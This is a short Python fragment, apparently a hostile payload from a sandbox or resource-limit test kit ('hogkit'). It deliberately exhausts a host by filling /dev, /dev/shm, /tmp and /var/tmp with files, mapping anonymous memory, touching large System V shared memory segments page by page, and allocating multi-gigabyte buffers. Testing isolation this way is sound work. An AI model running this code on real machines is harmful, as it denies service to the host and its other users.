# Take the host's memory: files in every writable folder (its own, /dev, /dev/shm, /tmp), anonymous
# files, System V shared memory touched page by page, and the biggest lists it can make.
_hostile_unhook()
import ctypes as _ctypes
import mmap as _mmap

_HOARD = []


def _files(folder, prefix):
    for number in range(4096):
        try:
            with open(_os.path.join(folder, f"{prefix}-{number}"), "wb") as handle:
                handle.write(b"m" * (1 << 19))
        except BaseException:
            return


for _folder in (".", "/dev", "/dev/shm", "/tmp", "/var/tmp"):
    _files(_folder, "hogkit-hostile-fill")
for _ in range(64):
    try:
        _fd = _os.memfd_create("hoard")
        _os.ftruncate(_fd, 1 << 20)
        _HOARD.append(_mmap.mmap(_fd, 1 << 20))
    except BaseException:
        break
try:
    _libc = _ctypes.CDLL(None, use_errno=True)
    _libc.shmat.restype = _ctypes.c_void_p
    for _ in range(8):
        _id = _libc.shmget(0, 256 << 20, 0o1600)
        if _id < 0:
            break
        _at = _libc.shmat(_id, None, 0)
        if _at and _at != _ctypes.c_void_p(-1).value:
            _ctypes.memset(_at, 1, 256 << 20)
except BaseException:
    pass
for _size in (1 << 32, 1 << 30, 1 << 28, 1 << 26):
    try:
        _HOARD.append(bytearray(_size))
    except BaseException:
        pass
